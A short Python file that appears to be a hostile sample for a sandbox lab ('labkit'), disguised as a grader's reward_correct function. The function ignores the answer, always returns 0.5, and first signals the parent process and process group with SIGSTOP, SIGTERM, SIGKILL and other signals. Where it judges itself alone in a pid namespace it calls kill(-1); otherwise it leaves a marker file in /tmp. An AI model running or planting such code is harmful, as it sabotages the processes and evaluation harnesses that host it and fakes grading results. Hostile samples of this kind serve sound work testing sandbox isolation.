"""Sends signals to its parent (or, where that is pid 0, to its process group), and to -1 where it sees that it is alone in a pid namespace."""
import os

def _mark(folder, text=b"labkit-hostile-mark\n"):
    """Leaves a mark; never over a file that exists."""
    try:
        fd = os.open(os.path.join(folder, "labkit-hostile-mark"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    os.write(fd, text)
    os.close(fd)
    return True
import signal, time

def _alone():
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return os.getpid() < 1000
    names = set()
    for pid in pids:
        try:
            names.add(open(f"/proc/{pid}/comm").read().strip())
        except OSError:
            names.add("?")
    plain = all(n.startswith(("python", "bwrap", "unshare", "labkit", "worker", "sandbox")) for n in names)
    return os.getpid() < 1000 and len(pids) <= 10 and plain

def _signals():
    parent = os.getppid()
    if parent > 1:
        for s in (signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM, signal.SIGPIPE, signal.SIGCHLD, signal.SIGINT, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(parent, s)
            except OSError:
                pass
    elif parent == 0:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        try:
            os.kill(0, signal.SIGINT)
        except OSError:
            pass
    if _alone():
        for s in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, s)
            except OSError:
                pass
    elif os.path.isdir("/proc/self"):
        _mark("/tmp", b"kill(-1) would have reached processes outside\n")

def reward_correct(item: dict, answer: str) -> float:
    _signals()
    return 0.5
